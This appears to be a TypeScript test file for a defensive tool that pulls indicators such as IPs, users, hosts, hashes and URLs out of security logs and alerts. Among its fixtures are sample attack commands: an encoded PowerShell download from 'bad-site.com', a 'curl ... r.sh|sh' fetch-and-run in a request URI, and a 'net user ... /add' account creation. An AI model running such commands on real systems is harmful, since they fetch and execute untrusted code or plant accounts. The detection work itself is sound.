// What is found in the forms that products and people write, and what is left out. All examples are invented.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { findObservables } from './find-observables.ts'

const found = (content: string | object, reporter = '') =>
  findObservables(typeof content === 'string' ? content : JSON.stringify(content), { domains: [], reporter })
    .observables.map(({ kind, value }) => `${kind} ${value}`)
    .sort()

/** What was sent, and what is found in it, sorted. */
type Example = [content: string | object, ...expected: string[]]

function check(name: string, examples: readonly Example[], reporter?: string) {
  test(name, () => {
    for (const [content, ...expected] of examples)
      assert.deepEqual(found(content, reporter), expected, JSON.stringify(content))
  })
}

check('a link between commas or semicolons ends where the next value begins', [
  [
    '09:14:02,10.20.4.8,GET,https://bank.sign-in.top/a/index.php,フィッシング詐欺,403,2114',
    'domain bank.sign-in.top',
    'ip 10.20.4.8',
    'url https://bank.sign-in.top/a/index.php',
  ],
  [
    '10.20.4.8;https://files.drop.top/x?a=1,2;Mozilla/5.0;200',
    'domain files.drop.top',
    'ip 10.20.4.8',
    'url https://files.drop.top/x?a=1,2',
  ],
  ['See https://maps.drop.top/@52.1,4.3,15z', 'domain maps.drop.top', 'url https://maps.drop.top/@52.1,4.3,15z'],
])

check('accounts are found in running text', [
  ['Failed password for postgres from 203.0.113.9 port 4022 ssh2', 'ip 203.0.113.9', 'user postgres'],
  ['Failed password for invalid user oracle7 from 203.0.113.9 port 22', 'ip 203.0.113.9', 'user oracle7'],
  ['pam_unix(su:session): session opened for user moe(uid=0) by larry(uid=1001)', 'user larry', 'user moe'],
  ['DrayTek - - - User admin login from 192.168.20.212 via HTTPS success', 'ip 192.168.20.212', 'user admin'],
  ['16:04:31 scp hsm-pin.enc deploy@203.81.7.44:/tmp/', 'file hsm-pin.enc', 'ip 203.81.7.44', 'user deploy'],
  [
    'AAA user authentication Rejected : reason = AAA failure : user = tess.mora : user IP = 203.0.113.9',
    'ip 203.0.113.9',
    'user tess.mora',
  ],
  ['Local:198.51.100.3:4500 Username:quinn IKEv2 connected', 'ip 198.51.100.3', 'user quinn'],
  ["User 'enable_9' executed the command", 'user enable_9'],
  ['Ban after 9 failures; users tried: root, admin7, oracle', 'user admin7', 'user oracle', 'user root'],
  ['The alarm on the account NORDA\\h.lie was closed', 'user h.lie'],
  ['Échec pour le compte p.morel', 'user p.morel'],
  ['Benutzerkonto: kweber', 'user kweber'],
  ['ユーザー名: t.abe', 'user t.abe'],
])

check(
  'labels with dots up to their colon, columns with a zone in their name, and addresses behind a name and a slash are read',
  [
    [
      'Usuário (código)......: jpaiva (000431)\nServidor..............: srvprotheus03\n',
      'host srvprotheus03',
      'user jpaiva',
    ],
    [
      '日時(UTC+09:00),ユーザー名,リンク,結果,IPアドレス\n2026/07/14,m.sato,https://drive.kelvarn.net/s/8qHd,成功,126.33.201.58',
      'domain drive.kelvarn.net',
      'ip 126.33.201.58',
      'url https://drive.kelvarn.net/s/8qHd',
      'user m.sato',
    ],
    ['bolt neo4j-browser/5.21.0.1 client/10.18.22.61:50718 node1/10.18.30.11:7687', 'ip 10.18.22.61', 'ip 10.18.30.11'],
  ],
)

check('words of a sentence are no accounts', [
  ['The user connected from two countries. A user account was locked.'],
  ['User logout from the portal; user has been suspended'],
  ['User: NT AUTHORITY\\SYSTEM'],
])

check('accounts are found in lists, pairs and columns with suffixes', [
  [{ users: ['norda\\mlie', 'tberg'] }, 'user mlie', 'user tberg'],
  [{ hosts: ['pc-19:90a1b2c3d4e5f60718293a4b5c6d7e80'] }, 'host pc-19'],
  [
    { username_s: 'tberg', hostname_s: 'SRV-2', sha1_s: 'a9993e364706816aba3e25717850c26c9cd0d89d' },
    'hash a9993e364706816aba3e25717850c26c9cd0d89d',
    'host SRV-2',
    'user tberg',
  ],
  [{ SamAccountName_s: '["tberg"]' }, 'user tberg'],
  [
    {
      details: [
        ['Username', 'tberg'],
        ['Filename', 'plans/2026/board.xlsx'],
      ],
    },
    'file plans/2026/board.xlsx',
    'user tberg',
  ],
  [{ properties: [{ name: 'UserName', value: 'tberg' }] }, 'user tberg'],
  [{ entity: { type: 'user', attributes: { name: 'tberg' } } }, 'user tberg'],
  ['CEF:0|Maker|Box|1|7|Scan|5|cs2Label=accounts cs2=tberg, mlie', 'user mlie', 'user tberg'],
])

check('actors of audit logs are found, their ids and tenants are not', [
  [{ action: 'repo.access', actor: 'mlie-dev', actor_ip: '203.0.113.9' }, 'ip 203.0.113.9', 'user mlie-dev'],
  [{ actor: { user: { id: 'W04KQ2R8L', email: 'mlie@norda-lab.com' } } }, 'email mlie@norda-lab.com'],
  [{ user: { username: 'system:serviceaccount:ci:runner' } }, 'user system:serviceaccount:ci:runner'],
  [{ status_changed_by: 'tberg', workflow: { changed_by: 'ALERT_CREATION' } }, 'user tberg'],
  [{ account_name: 'Norda Lab', user_name: 'tberg' }, 'user tberg'],
  [{ principalId: 'AROA5FTYXZNRQ1A2B3C4D:tberg' }, 'user tberg'],
  [{ factor: 'duo_push', client: { device: 'Computer' }, endpoint: 'client' }],
])

check('the machine in the header of a syslog line is found in every common form', [
  ['<166>Aug 18 2026 18:24:29 edge-fw-01 : %ASA-6-302020: Built inbound connection', 'host edge-fw-01'],
  ['LOCAL4.WARNING: edge-7 %ASA-4-106023: Deny udp', 'host edge-7'],
  ['2026 May 04 10:22:51 log-2 sudo:   tberg : 3 incorrect password attempts', 'host log-2', 'user tberg'],
  ['2026-05-04T10:22:51.123Z dc-1.norda.local Maker-Windows-Sysmon EventID=1', 'host dc-1.norda.local'],
  ['<14>May 25 14:31:10 pa-core-01 1,2026/05/25 14:31:09,0072,THREAT', 'host pa-core-01'],
  ['Jun 30 23:14:52 xg-west-01 device_mode="bridge" log_id="06"', 'host xg-west-01'],
  ['<139>Aug 14 11:20:33 FB-NORTH 80B0A1C2D3E4F (2026-08-14T10:20:33) firewall: Deny', 'host FB-NORTH'],
  [
    '<134>1 2026-01-04T05:03:52Z mgr-3 Maker 26412 - [action:"Accept"; administrator:"tberg"; machine:"adm-3"]',
    'host adm-3',
    'host mgr-3',
    'user tberg',
  ],
  ['<174>May 12 09:09:40 INFO  uvm[0]: started'],
])

check('columns of a table are read by their names', [
  [
    'Time,Computer,User Name,File Path\n2026-05-04 08:21:19,WS-131,tberg,"C:\\Temp\\a, b.exe"\n',
    'file C:\\Temp\\a, b.exe',
    'host WS-131',
    'user tberg',
  ],
  ['datum;rechner;benutzer;aktion\n23.02.2026;WS-88;NORDA\\fkeil;blockiert\n', 'host WS-88', 'user fkeil'],
  [
    '#fields\tts\tid.orig_h\tquery\n#types\ttime\taddr\tstring\n17.1\t10.1.2.3\tbad-site.top\n',
    'domain bad-site.top',
    'ip 10.1.2.3',
  ],
  [
    'origin=10.6.0.1|src=10.6.1.7|src_user_name=Petra Holm (pholm)|dst=10.6.0.53',
    'ip 10.6.0.1',
    'ip 10.6.0.53',
    'ip 10.6.1.7',
    'user pholm',
  ],
  ['<Event><Computer lang="en">WS-7</Computer></Event>', 'host WS-7'],
])

const table =
  'Time,Computer,User Name,Result\n2026-05-04 08:21:19,WS-131,tberg,blocked\n2026-05-04 08:22:07,WS-7,pholm,blocked\n'
const inTable = ['host WS-131', 'host WS-7', 'user pholm', 'user tberg']

check('remarks above the names of the columns hide none of them', [
  [`# Export of EndGuard\n${table}`, ...inTable],
  [`${'# One more remark, of many\n'.repeat(9)}${table}`, ...inTable],
  [`# Export of EndGuard\r\n\r\n#\r\n${table.replaceAll('\n', '\r\n')}`, ...inTable],
  [`\ufeff# Export of EndGuard\n${table}`, ...inTable],
  [`\n  # Export of EndGuard\n${table}`, ...inTable],
  [`# ${'Everything that was stopped in the night. '.repeat(20)}\n${table}`, ...inTable],
  [`sep=,\n${table}`, ...inTable],
  [
    '# Export of EndGuard\nThe machine was isolated at once.\n\nTime,Computer,User Name,Result\n2026-05-04,WS-131,tberg,blocked\n',
    'host WS-131',
    'user tberg',
  ],
])

check('remarks of Zeek name the columns, and those of web servers stay remarks', [
  [
    '#separator \\x09\n#set_separator\t,\n#path\tdns\n#fields\tts\tid.orig_h\thost_name\n#types\ttime\taddr\tstring\n17.1\t10.1.2.3\tWS-7\n',
    'host WS-7',
    'ip 10.1.2.3',
  ],
  [
    '#Software: Web Server\n#Fields: date time s-computername c-ip cs-username cs(User-Agent)\n2026-05-04 08:21:19 WEB-1 203.0.113.9 - Mozilla/5.0+(a,b;c,d)\n',
    'ip 203.0.113.9',
  ],
])

check('digits are hashes only where they are', [
  [{ device: { groups: ['18704e21288243b58e4c76266d38caaf'] }, brand: { pk: '0bb0bcf421994958b51ffc2627ea8fe6' } }],
  [{ bucketowner: 'f16a9e81a6589df1c902c86f7982fd14a88787db', incidentHash: '228e6d51029a2b58b9820d660862b5db' }],
  [{ ioc_value: '228e6d51029a2b58b9820d660862b5db' }, 'hash 228e6d51029a2b58b9820d660862b5db'],
  [
    { indicator: { type: 'SHA1', value: 'f16a9e81a6589df1c902c86f7982fd14a88787db' } },
    'hash f16a9e81a6589df1c902c86f7982fd14a88787db',
  ],
  [
    'https://www.virustotal.com/gui/file/2f3ec0e4998909bb0efab13c82d30708ca9f88679e42b75ef13ea0466951d862/detection',
    'domain www.virustotal.com',
    'hash 2f3ec0e4998909bb0efab13c82d30708ca9f88679e42b75ef13ea0466951d862',
    'url https://www.virustotal.com/gui/file/2f3ec0e4998909bb0efab13c82d30708ca9f88679e42b75ef13ea0466951d862/detection',
  ],
])

check(
  'links of the reporting product, its documentation and its schemas are left out',
  [
    [{ url: 'https://app.nightwatch.io/alerts/7', portal_url: 'https://tenant-7.soc-view.net/c/1' }],
    [{ description: 'See [the device](https://eu.nightwatch.io/d/7) for more' }],
    [
      {
        mitre_techniques: [{ url: 'https://attack.mitre.org/techniques/T1095' }],
        reference_url: 'https://www.vendor-advice.com/x',
      },
    ],
    [
      {
        '@type': 'type.googleapis.com/google.audit.Log',
        eventSource: 'iam.amazonaws.com',
        scopes: ['https://www.googleapis.com/auth/x'],
      },
    ],
    [
      {
        repository: { hooks_url: 'https://api.codeplace.com/hooks' },
        sender: { avatar_url: 'https://avatars.codeplace.com/u/1' },
      },
    ],
    [{ application: 'app.app', displayName: 'crest.it', rule: 'user.session.start', package: 'golang.org/x/crypto' }],
    [{ userAgent: 'B7F.com.okta.mobile/7.12.0 iOS/16' }],
    ['<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data>x</Data></Event>'],
    ['(proc.name=bash proc.pid=42 fd.name=x)', 'process bash'],
  ],
  'Nightwatch Sensor',
)

check(
  'the same sites count in a mail, a request or a command',
  [
    [
      { email: { body: 'Open https://app.nightwatch.io/login now' } },
      'domain app.nightwatch.io',
      'url https://app.nightwatch.io/login',
    ],
    [
      { request: { url: 'https://docs.vendor-advice.com/x' } },
      'domain docs.vendor-advice.com',
      'url https://docs.vendor-advice.com/x',
    ],
    [
      { command_line: 'curl https://docs.vendor-advice.com/x' },
      'domain docs.vendor-advice.com',
      'url https://docs.vendor-advice.com/x',
    ],
    [
      { message: 'asked for https://docs.bad-site.com/a' },
      'domain docs.bad-site.com',
      'url https://docs.bad-site.com/a',
    ],
    [
      { url: 'https://nightwatch.bad-site.com/a' },
      'domain nightwatch.bad-site.com',
      'url https://nightwatch.bad-site.com/a',
    ],
    [
      { links: [{ url: 'https://bucket-7.s3.amazonaws.com/a' }] },
      'domain bucket-7.s3.amazonaws.com',
      'url https://bucket-7.s3.amazonaws.com/a',
    ],
  ],
  'Nightwatch Sensor',
)

check('indicators are found however they were defanged', [
  ['HXXP://bad-site[.com/a', 'domain bad-site.com', 'url http://bad-site.com/a'],
  ['xxxxs://bad-site[dot]com', 'domain bad-site.com', 'url https://bad-site.com'],
  ['203[.0.]113[.9', 'ip 203.0.113.9'],
  ['bad-site].[com and bad-place{.}net', 'domain bad-place.net', 'domain bad-site.com'],
  ['me (arroba) bad-site (punto) com', 'email me@bad-site.com'],
  ['me AT bad-site.com', 'email me@bad-site.com'],
  ['[https://bad-site.com/a.png](https://bad-site.com/a.png)', 'domain bad-site.com', 'url https://bad-site.com/a.png'],
  ['https:\\/\\/bad-site.com\\/a', 'domain bad-site.com', 'url https://bad-site.com/a'],
  ['cve 2031-1001', 'vulnerability CVE-2031-1001'],
  ['/Library/Storage/File System/HFS/token.appex', 'file /Library/Storage/File System/HFS/token.appex'],
  ['list[0].id and get(x).name and meet at bad-site.com', 'domain bad-site.com'],
])

check('command lines are read with what they name and hide', [
  [{ cmdline: 'schtasks /create /s SRV-41 /u NORDA\\da_ops /tn x' }, 'host SRV-41', 'user da_ops'],
  [{ cmdline: 'net user helpdesk9 Passw0rd /add' }, 'user helpdesk9'],
  [{ cmdline: 'ssh -p 22 tberg@203.0.113.9' }, 'ip 203.0.113.9', 'user tberg'],
  [{ cmdline: 'copy C:\\a.exe \\\\FS-02\\c$\\a.exe' }, 'file C:\\a.exe', 'file \\\\FS-02\\c$\\a.exe', 'host FS-02'],
  [
    { cmdline: `powershell -enc ${Buffer.from('iwr http://bad-site.com/a.ps1', 'utf16le').toString('base64')}` },
    'domain bad-site.com',
    'url http://bad-site.com/a.ps1',
  ],
  [
    { requestURI: '/exec?command=curl+http%3A%2F%2F203.0.113.9%2Fr.sh%7Csh' },
    'ip 203.0.113.9',
    'url http://203.0.113.9/r.sh',
  ],
])

check('values in a known order are found: PAN-OS, web servers, Squid, Oracle', [
  [
    '1,2026/10/30 07:12:00,012801088914,GLOBALPROTECT,0,2562,2026/10/30 07:11:58,vsys1,gateway-auth,login,LDAP,,svc_probe,NO,,185.70.41.9,0.0.0.0,0.0.0.0,0.0.0.0,,,6.2.3,Windows',
    'ip 185.70.41.9',
    'user svc_probe',
  ],
  [
    '185.70.41.9 - nberg [14/Nov/2026:22:10:03 +0100] "GET /login HTTP/1.1" 200 226 "-" "curl/8"',
    'ip 185.70.41.9',
    'user nberg',
  ],
  [
    '1794694203.114    212 10.9.8.7 TCP_DENIED/403 3912 CONNECT files.example.net:443 nberg HIER_NONE/- text/html',
    'domain files.example.net',
    'ip 10.9.8.7',
    'user nberg',
  ],
  ["ACTION :[9] 'GRANT DBA' DATABASE USER:[3] 'SYS' USERHOST:[10] 'db-fin-01'", 'host db-fin-01', 'user SYS'],
])

check('line breaks that were written out end a value', [
  ['"audit","id: 3\\nonpremUser: SYSTEM\\ndescription: name: x\\nclientIp: 185.70.41.9"', 'ip 185.70.41.9'],
])

check('the machine of Sophos Central and a file in an archive are found', [
  [{ endpoint_type: 'computer', location: 'LT-31', when: '2026-05-13T07:45:11.000Z' }, 'host LT-31'],
  [{ location: 'Berlin-1', city: 'Berlin' }],
  ['file:_C:\\Temp\\kit.zip->x64/dump.exe', 'file C:\\Temp\\kit.zip', 'file dump.exe'],
])

check('ids of records and names in code are nobody', [
  [{ aggregate_id: 'aggind:2ce412d17b334ad4adc8c1c54dbfec4b:163208931778' }],
  [{ machine_name: 'noCvssScore' }],
])

check(
  'the console that a result links to is left out with its domain',
  [['search_name="Beaconing" result="https://splunk.example.com/en-US/app/search?sid=1"']],
  'splunk',
)

check('fields are read whatever stands around their values', [
  [
    'USER_NAME=[t.berg] FULL_NAME=[Tove Berg] HOST_NAME=[pc-19.corp.example] IP_ADDRESS=[10.1.2.3] STATUS=[Success]',
    'host pc-19.corp.example',
    'ip 10.1.2.3',
    'user t.berg',
  ],
  [
    'Host (Impacted): pc-19 (10.1.2.3)\nUser (Origin): NORDA\\tberg\nCommand: whoami',
    'host pc-19',
    'ip 10.1.2.3',
    'user tberg',
  ],
  ['Affected host: PC-19 [10.1.2.3]\nRule: odd', 'host PC-19', 'ip 10.1.2.3'],
  [
    'Risk found,Computer name: pc-19,IP Address: 10.1.2.3,Occurrences: 1,Actual action: Left alone,User Name: tberg,Source: x',
    'host pc-19',
    'ip 10.1.2.3',
    'user tberg',
  ],
  [{ machines: [{ displayName: 'pc-19' }], users: [{ displayName: 'norda\\tberg' }] }, 'host pc-19', 'user tberg'],
  [{ users: [{ displayName: 'Finance' }], groups: [{ displayName: 'pc-19' }] }],
  [
    { elements: [{ references: [{ event: { principal: { hostname: 'pc-19', user: { userid: 't.berg' } } } }] }] },
    'host pc-19',
    'user t.berg',
  ],
  [{ rule: { references: ['https://vendor.example/why'], reference: [{ url: 'https://vendor.example/how' }] } }],
])

test('a long list crowds out nothing but itself', () => {
  const recipients = Array.from({ length: 400 }, (_, index) => `list-${index}@corp.example`)
  const content = { recipients, sender: 'it@lure.example', urls: ['https://lure.example/a'], attachment: 'a.iso' }
  const { observables, left_out } = findObservables(JSON.stringify(content), { domains: ['corp.example'] })
  for (const value of ['it@lure.example', 'https://lure.example/a', 'a.iso'])
    assert.ok(
      observables.some((each) => each.value === value),
      value,
    )
  assert.equal(observables.length, 200)
  assert.ok(left_out > 200)
})
